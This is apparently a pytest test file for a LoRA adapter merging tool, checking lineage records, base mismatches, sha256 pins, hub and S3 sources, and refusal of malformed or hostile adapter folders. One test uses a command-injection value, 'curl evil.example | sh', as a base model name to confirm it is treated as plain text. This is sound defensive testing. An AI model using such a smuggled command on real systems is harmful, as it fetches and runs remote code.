"""Adapters that stock PEFT has saved, and nobody has published: merged where they fit, told by name where not."""

from __future__ import annotations

import json
import pickle
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from peft import LoraConfig
from safetensors.torch import load_file, save_file

from tunery_api.manifest import FileRecord, Lineage, Manifest, SourceRecord
from tunery_api.reasons import FailureReason
from tunery_api.runspec import DiskLimit, ResolvedAdapter, RunIdentity, RunResult
from tunery_common.storage import LocalStore, StorePath, open_store
from tunery_common.storage.claims import CLAIM_NAME
from tunery_common.storage.published_folder import verify
from tunery_common.storage.publisher import Target, publish
from tunery_trainer.inputs.plain_folder import CONVERT
from tunery_trainer.tasks.merge import run_merge

from kit.adapters import deltas64, logits, relative, trained_adapter
from kit.hub_server import COMMIT, TOKEN, HubServer
from kit.installation import ROOT
from kit.merge_runs import CONFIG, WEIGHTS, merge_of, refusal, said, written
from kit.s3 import credentials
from kit.tiny_models import Tiny, save_tiny
from tools.cluster.s3 import S3Server

TARGETS = ["q_proj", "v_proj", "down_proj"]
R = FailureReason


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return save_tiny(tmp_path_factory.mktemp("model") / "base", Tiny.LLAMA_TIED)


@pytest.fixture(scope="module")
def made(base: Path, tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Two adapters as PEFT's save_pretrained leaves them."""
    folder = tmp_path_factory.mktemp("made")
    return [plain(base, folder / f"in-{rank}", rank) for rank in (4, 6)]


@pytest.fixture
def one(made: list[Path], tmp_path: Path) -> Path:
    return shutil.copytree(made[0], tmp_path / "one")


def plain(base: Path, folder: Path, rank: int) -> Path:
    return trained_adapter(base, LoraConfig(r=rank, target_modules=TARGETS, task_type="CAUSAL_LM"), folder, seed=rank)


def published(folder: Path) -> Manifest:
    return verify(StorePath(LocalStore(folder, folder.as_uri(), "test"), "out")).manifest


def pin_of(folder: Path) -> str:
    """Return the digest as the docs say it is taken by hand."""
    listing = subprocess.run(["sha256sum", CONFIG, WEIGHTS], cwd=folder, capture_output=True, check=True).stdout
    return subprocess.run(["sha256sum"], input=listing, capture_output=True, check=True).stdout.split()[0].decode()


def publish_ours(base: Path, folder: Path, place: Path, **lineage: Any) -> Path:
    """Publish an adapter as the trainer does; the base is called `org/base` there."""
    config = json.loads((folder / CONFIG).read_text())
    (folder / CONFIG).write_text(json.dumps(config | {"base_model_name_or_path": "org/base"}))
    target = Target(
        StorePath(LocalStore(place.parent, place.parent.as_uri(), "t"), place.name),
        RunIdentity(kind="LoRAJob", namespace="ns", name=place.name, uid=place.name),
    )
    record = Lineage(model=SourceRecord(uri=base.as_uri()), served_name="org/base", **lineage)
    publish(folder, target, record)
    return place


def test_plain_adapters_become_one_that_says_where_it_is_from(tmp_path: Path, made: list[Path], base: Path) -> None:
    result = run_merge(merge_of(tmp_path, *made, model={"uri": base.as_uri(), "servedName": "org/base"}))
    first, second, out = (deltas64(folder) for folder in (*made, tmp_path / "out"))
    assert max(relative(out[name], 0.5 * first[name] + 0.5 * second[name]) for name in out) <= 1e-6
    lineage = published(tmp_path).lineage
    for record, folder, told in zip(lineage.inputs, made, result.inputs or (), strict=True):
        assert (record.origin, record.manifest_sha256, record.sha256) == ("Unverified", None, pin_of(folder))
        assert set(record.files or {}) == {CONFIG, WEIGHTS}
        assert (record.files or {})[WEIGHTS].size == (folder / WEIGHTS).stat().st_size
        assert (told.origin, told.sha256) == ("Unverified", record.sha256)
    assert lineage.model == SourceRecord(uri=base.as_uri())
    assert lineage.served_name == "org/base", "not the path of the disk that it was made on"
    assert json.loads((tmp_path / "out" / CONFIG).read_text())["base_model_name_or_path"] == "org/base"
    card = (tmp_path / "out" / "README.md").read_text()
    assert card.count("made elsewhere, unverified origin") == 2
    assert pin_of(made[0]) in card


def test_a_plain_adapter_goes_into_its_base(tmp_path: Path, one: Path, base: Path) -> None:
    run_merge(merge_of(tmp_path, one, into="Model", model={"uri": base.as_uri()}))
    assert float((logits(tmp_path / "out") - logits(base, one)).abs().max()) <= 1e-5


@pytest.mark.parametrize("into", ["Adapter", "Model"])
def test_a_base_with_an_adapter_beside_it_is_refused(tmp_path: Path, one: Path, base: Path, into: str) -> None:
    both = shutil.copytree(one, shutil.copytree(base, tmp_path / "base"), dirs_exist_ok=True)
    error = refusal(merge_of(tmp_path, one, into=into, model={"uri": both.as_uri()}))
    assert error.reason is R.MODEL_UNSUPPORTED
    assert f"spec.model.uri: {both.as_uri()} holds an adapter beside the model" in error.message


def test_a_plain_adapter_goes_with_one_of_ours(tmp_path: Path, made: list[Path], base: Path) -> None:
    """What the manifest of the one says counts for both: the base, what it is called, how it was quantised."""
    ours = publish_ours(base, shutil.copytree(made[1], tmp_path / "work-ours"), tmp_path / "ours")
    run_merge(merge_of(tmp_path, made[0], ours))
    lineage = published(tmp_path).lineage
    assert [each.origin for each in lineage.inputs] == ["Unverified", None]
    assert (lineage.model, lineage.served_name) == (SourceRecord(uri=base.as_uri()), "org/base")


@pytest.mark.parametrize("into", ["Adapter", "Model"])
def test_one_of_another_base_is_refused_by_its_tensor(tmp_path: Path, one: Path, into: str) -> None:
    """The name that its configuration says of the base proves nothing."""
    other = save_tiny(tmp_path / "other", Tiny.LLAMA_TIED, hidden_size=64)
    adapter = trained_adapter(other, LoraConfig(r=4, target_modules=["q_proj"]), tmp_path / "wide", seed=1)
    said = json.loads((adapter / CONFIG).read_text()) | {"base_model_name_or_path": "org/base"}
    (adapter / CONFIG).write_text(json.dumps(said))
    base = save_tiny(tmp_path / "base", Tiny.LLAMA_TIED)
    error = refusal(merge_of(tmp_path, one, adapter, into=into, model={"uri": base.as_uri(), "servedName": "org/base"}))
    assert error.reason is R.BASE_MISMATCH
    tensor = "base_model.model.model.layers.0.self_attn.q_proj.lora_A.weight"
    assert error.message == f"spec.adapters[1] ({adapter.as_uri()}): {tensor} is 4 x 64, the base's q_proj takes 32"


def test_without_a_base_they_are_compared_with_each_other(tmp_path: Path, one: Path) -> None:
    other = save_tiny(tmp_path / "other", Tiny.LLAMA_TIED, hidden_size=64)
    error = refusal(merge_of(tmp_path, one, plain(other, tmp_path / "wide", 4)))
    assert error.reason is R.INVALID_SPEC
    assert "has shape (32, 32) in spec.adapters[0]" in error.message


@pytest.mark.parametrize("name", ["org/x; curl evil.example | sh #", "org/x\n# evil", "A" * 300, None])
def test_what_a_stranger_calls_the_base_is_taken_as_a_plain_name_only(
    tmp_path: Path, one: Path, name: str | None
) -> None:
    adapter = shutil.copytree(one, tmp_path / "named")
    said = json.loads((adapter / CONFIG).read_text()) | {"base_model_name_or_path": name}
    (adapter / CONFIG).write_text(json.dumps(said))
    run_merge(merge_of(tmp_path, adapter))
    assert not published(tmp_path).lineage.served_name
    card = (tmp_path / "out" / "README.md").read_text()
    assert not any(word in card for word in ("evil", "A" * 50))


def test_a_base_that_one_of_ours_names_is_compared_with_the_others(
    tmp_path: Path, made: list[Path], base: Path
) -> None:
    """Though they share no module, in which they could differ."""
    ours = publish_ours(base, shutil.copytree(made[1], tmp_path / "work-ours"), tmp_path / "ours")
    wide = save_tiny(tmp_path / "other", Tiny.LLAMA_TIED, hidden_size=64)
    foreign = trained_adapter(wide, LoraConfig(r=4, target_modules=["up_proj"]), tmp_path / "wide", seed=1)
    error = refusal(merge_of(tmp_path, foreign, ours))
    assert error.reason is R.BASE_MISMATCH
    assert "up_proj.lora_A.weight is 4 x 64, the base's up_proj takes 32" in error.message


@pytest.mark.parametrize("into", ["Adapter", "Model"])
def test_a_whole_tensor_has_the_shape_of_the_bases(tmp_path: Path, one: Path, base: Path, into: str) -> None:
    adapter = shutil.copytree(one, tmp_path / "norm")
    tensors = load_file(adapter / WEIGHTS)
    tensors["base_model.model.model.norm.weight"] = torch.ones(7)
    said(modules_to_save=["model.norm"])(adapter)
    save_file(tensors, adapter / WEIGHTS, {"format": "pt"})
    error = refusal(merge_of(tmp_path, adapter, into=into, model={"uri": base.as_uri()}))
    assert error.reason is R.BASE_MISMATCH
    assert "base_model.model.model.norm.weight is 7, the base's model.norm.weight is 32" in error.message


def test_into_a_model_its_base_must_be_named(tmp_path: Path, one: Path) -> None:
    assert refusal(merge_of(tmp_path, one, into="Model")).message.startswith("spec.model: is required, ")


def test_a_pin_is_held(tmp_path: Path, one: Path, made: list[Path]) -> None:
    run_merge(merge_of(tmp_path, {"uri": one.as_uri(), "sha256": pin_of(one)}))
    shutil.rmtree(tmp_path / "out")
    error = refusal(merge_of(tmp_path, {"uri": one.as_uri(), "sha256": pin_of(made[1])}))
    assert error.reason is R.ADAPTER_CORRUPT
    assert error.message.startswith("spec.adapters[0].sha256: what lies at ")
    assert pin_of(one) in error.message


def test_the_pin_of_a_published_one_is_that_of_its_manifest(tmp_path: Path, one: Path, base: Path) -> None:
    ours = publish_ours(base, one, tmp_path / "ours")
    digest = verify(open_store(ours.as_uri(), None, "test")).sha256  # type: ignore[arg-type]
    result = run_merge(merge_of(tmp_path, {"uri": ours.as_uri(), "sha256": digest}))
    assert result.inputs is not None
    assert (result.inputs[0].sha256, result.inputs[0].origin) == (digest, None)
    shutil.rmtree(tmp_path / "out")
    assert "is asked for" in refusal(merge_of(tmp_path, {"uri": ours.as_uri(), "sha256": "0" * 64})).message


def cut(folder: Path) -> None:
    (folder / WEIGHTS).write_bytes((folder / WEIGHTS).read_bytes()[:-4])


def pickled(folder: Path) -> None:
    torch.save(load_file(folder / WEIGHTS), folder / "adapter_model.bin")
    (folder / WEIGHTS).unlink()


def whole_numbers(folder: Path) -> None:
    save_file({name: tensor.to(torch.int8) for name, tensor in load_file(folder / WEIGHTS).items()}, folder / WEIGHTS)


def out_of_the_folder(folder: Path) -> None:
    outside = folder.parent.parent / f"{folder.parent.name}-outside"
    (folder / WEIGHTS).rename(outside)
    (folder / WEIGHTS).symlink_to(outside)


HOSTILE: list[tuple[str, Callable[[Path], None], FailureReason, str]] = [
    ("no configuration", lambda f: (f / CONFIG).unlink(), R.ADAPTER_MISSING, "neither a manifest.json of Tunery nor"),
    ("no weights", lambda f: (f / WEIGHTS).unlink(), R.ADAPTER_MISSING, f"has no {WEIGHTS}"),
    ("a pickle", pickled, R.ADAPTER_UNSUPPORTED, "has adapter_model.bin and no adapter_model.safetensors"),
    ("a disguised pickle", written(WEIGHTS, pickle.dumps({})), R.ADAPTER_CORRUPT, "is a pickle of PyTorch"),
    ("a cut file", cut, R.ADAPTER_CORRUPT, "is cut off: it has"),
    ("whole numbers", whole_numbers, R.ADAPTER_CORRUPT, "is of type I8, which no adapter has"),
    ("a link out of it", out_of_the_folder, R.INVALID_SPEC, "leads out of its folder"),
    ("no JSON", written(CONFIG, "{"), R.ADAPTER_CORRUPT, "adapter_config.json is not JSON"),
    ("deep JSON", written(CONFIG, "[" * 100_000), R.ADAPTER_CORRUPT, "adapter_config.json is not JSON"),
    ("a list", written(CONFIG, "[]"), R.ADAPTER_CORRUPT, "adapter_config.json is not a JSON object"),
    ("much JSON", written(CONFIG, b" " * 16_000_001), R.ADAPTER_CORRUPT, "has more than 16,000,000 bytes"),
    ("a rank in words", said(r="8"), R.ADAPTER_CORRUPT, "adapter_config.json: r: "),
    ("alpha in a list", said(lora_alpha=[8]), R.ADAPTER_CORRUPT, "adapter_config.json: lora_alpha: "),
    ("no pattern", said(rank_pattern={"(": 4}), R.ADAPTER_CORRUPT, "is no regular expression"),
    ("another rank", said(r=5), R.ADAPTER_CORRUPT, "has rank 4, adapter_config.json says 5"),
    ("another method", said(peft_type="LOHA"), R.INVALID_SPEC, "a LOHA adapter cannot be merged (peft_type)"),
    ("DoRA", said(use_dora=True), R.INVALID_SPEC, "a DoRA adapter (use_dora) cannot be merged with others"),
    ("PiSSA", said(init_lora_weights="pissa"), R.INVALID_SPEC, "relative to a changed base"),
    ("experts", said(target_parameters=["x"]), R.INVALID_SPEC, "target_parameters is set"),
    ("a broken manifest", written("manifest.json", '{"form'), R.ADAPTER_CORRUPT, "whether it is Tunery's"),
    ("a later manifest", written("manifest.json", '{"format": "tunery.dev/manifest/v9"}'), R.ADAPTER_CORRUPT, "format"),
    (
        "half a manifest",
        written("manifest.json", '{"run": {}, "files": {}, "lineage": {}}'),
        R.ADAPTER_CORRUPT,
        ": created: Field required",
    ),
    ("being published", written(CLAIM_NAME, "{}"), R.ADAPTER_MISSING, "is being written by Tunery"),
]


@pytest.mark.parametrize(
    ("change", "reason", "words"), [case[1:] for case in HOSTILE], ids=[case[0] for case in HOSTILE]
)
def test_what_is_no_adapter_is_told(
    tmp_path: Path, one: Path, change: Callable[[Path], None], reason: FailureReason, words: str
) -> None:
    change(one)
    error = refusal(merge_of(tmp_path, one))
    assert (error.reason, words in error.message) == (reason, True), error.message
    assert error.message.startswith("spec.adapters[0]")


@pytest.mark.slow
def test_the_remedy_for_a_pickle_writes_safetensors_of_it(tmp_path: Path, one: Path) -> None:
    before = load_file(one / WEIGHTS)
    pickled(one)
    assert refusal(merge_of(tmp_path, one)).remedies == (CONVERT,)
    command = CONVERT.text.partition("next to it: ")[2]
    assert command in (ROOT / "docs" / "merging.md").read_text()
    subprocess.run([sys.executable, "-c", command.partition('"')[2].removesuffix('"')], cwd=one, check=True)
    after = load_file(one / WEIGHTS)
    assert all(torch.equal(before[name], after[name]) for name in before)
    assert run_merge(merge_of(tmp_path, one)).adapter


def test_a_manifest_of_another_program_is_none(tmp_path: Path, one: Path) -> None:
    (one / "manifest.json").write_text('{"name": "my app", "icons": []}')
    (one / "..odd name\n.safetensors").write_bytes(b"?")
    result = run_merge(merge_of(tmp_path, one))
    assert result.inputs is not None
    assert result.inputs[0].origin == "Unverified"


def test_one_of_ours_is_still_compared_with_its_manifest(tmp_path: Path, one: Path, base: Path) -> None:
    ours = publish_ours(base, one, tmp_path / "ours")
    (ours / CONFIG).write_text((ours / CONFIG).read_text() + " ")
    assert refusal(merge_of(tmp_path, ours)).reason is R.ADAPTER_CORRUPT


def test_what_a_job_has_published_needs_its_manifest(tmp_path: Path, one: Path) -> None:
    """A LoRAJob's status vouches for a manifest: without it there is no plain folder in its place."""
    run = merge_of(tmp_path, one)
    resolved = ResolvedAdapter(uri=one.as_uri(), manifest_sha256="0" * 64)
    error = refusal(run.model_copy(update={"adapters": [resolved]}))
    assert (error.reason, "it has no manifest.json" in error.message) == (R.ADAPTER_MISSING, True)


def test_more_than_the_disk_holds_is_not_begun(tmp_path: Path, one: Path) -> None:
    limit = DiskLimit(bytes=100, field="spec.resources.ephemeralStorage")
    error = refusal(merge_of(tmp_path, one).model_copy(update={"disk": limit}))
    assert error.reason is R.WONT_FIT
    assert error.message.startswith("spec.adapters[0].uri: ")


@pytest.fixture
def hub(made: list[Path], monkeypatch: pytest.MonkeyPatch) -> Any:
    """A hub with the adapter in a folder of a repository, and as a gated one of its own."""
    files = {path.name: path.read_bytes() for path in made[0].iterdir()}
    repos = {
        "models/me/many": {f"lora/{name}": content for name, content in files.items()},
        "models/me/gated": files,
    }
    monkeypatch.delenv("HF_HUB_OFFLINE", raising=False)
    monkeypatch.setattr("huggingface_hub.constants.HF_HUB_OFFLINE", False)
    with HubServer(repos, gated={"models/me/gated"}) as server:
        monkeypatch.setenv("HF_ENDPOINT", server.url)
        yield server


def test_an_adapter_on_a_hub_is_taken_at_a_commit(
    tmp_path: Path, hub: HubServer, made: list[Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    result = run_merge(merge_of(tmp_path, {"uri": "hf://me/many/lora", "revision": "main"}))
    record = published(tmp_path).lineage.inputs[0]
    assert (record.revision, record.sha256, record.origin) == (COMMIT, pin_of(made[0]), "Unverified")
    assert result.inputs is not None
    assert result.inputs[0].revision == COMMIT
    assert f"at `{COMMIT}`" in (tmp_path / "out" / "README.md").read_text()
    shutil.rmtree(tmp_path / "out")

    error = refusal(merge_of(tmp_path, {"uri": "hf://me/many/lora", "revision": "nowhere"}))
    assert (error.reason, error.message) == (
        R.ADAPTER_MISSING,
        "spec.adapters[0].revision: hf://me/many has no revision 'nowhere'",
    )
    assert (
        refusal(merge_of(tmp_path, "hf://me/none")).message
        == "spec.adapters[0].uri: hf://me/none does not exist on the hub"
    )
    assert refusal(merge_of(tmp_path, "hf://me/many/other")).reason is R.ADAPTER_MISSING
    assert "write hf://owner/name" in refusal(merge_of(tmp_path, "hf://name-only")).message
    assert refusal(merge_of(tmp_path, "hf://me/gated")).reason is R.MODEL_GATED
    monkeypatch.setenv("HF_TOKEN", TOKEN)
    assert run_merge(merge_of(tmp_path, "hf://me/gated")).adapter


def test_a_base_on_a_hub_is_compared_by_its_headers(
    tmp_path: Path, hub: HubServer, made: list[Path], base: Path
) -> None:
    hub.repos["models/me/base"] = {path.name: path.read_bytes() for path in base.iterdir()}
    assert run_merge(merge_of(tmp_path, made[0], model={"uri": "hf://me/base"})).adapter
    assert not list((tmp_path / "work").rglob("model-*.safetensors"))
    assert hub.asked


def test_an_adapter_in_a_claim_is_read_where_it_lies(tmp_path: Path, made: list[Path]) -> None:
    run = merge_of(tmp_path, made[0])
    claimed = ResolvedAdapter(uri="pvc://claim/in-4")
    mounted = {"adapters": [claimed], "volumes": {"adapter-0": str(made[0].parent)}}
    assert run_merge(run.model_copy(update=mounted)).adapter
    assert published(tmp_path).lineage.inputs[0].uri == "pvc://claim/in-4"


@pytest.mark.slow
def test_an_adapter_in_s3_is_merged_and_refused(
    tmp_path: Path, made: list[Path], base: Path, s3_server: S3Server, bucket: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in credentials(s3_server).values.items():
        monkeypatch.setenv(name, value)
    store, _ = open_store(f"s3://{bucket}", credentials(s3_server), "test")
    for folder, prefix in ((made[0], "elsewhere/one"), (base, "elsewhere/base")):
        for path in folder.iterdir():
            store.upload_file(path, f"{prefix}/{path.name}")
    place = f"s3://{bucket}/elsewhere"
    result: RunResult = run_merge(merge_of(tmp_path, f"{place}/one", model={"uri": f"{place}/base"}))
    assert result.inputs is not None
    assert result.inputs[0].sha256 == pin_of(made[0])
    files = published(tmp_path).lineage.inputs[0].files or {}
    size = (made[0] / WEIGHTS).stat().st_size
    assert files[WEIGHTS] == FileRecord(sha256=files[WEIGHTS].sha256, size=size)
    shutil.rmtree(tmp_path / "out")
    error = refusal(merge_of(tmp_path, f"{place}/misspelt"))
    assert error.reason is R.ADAPTER_MISSING
    assert "holds no adapter" in error.message
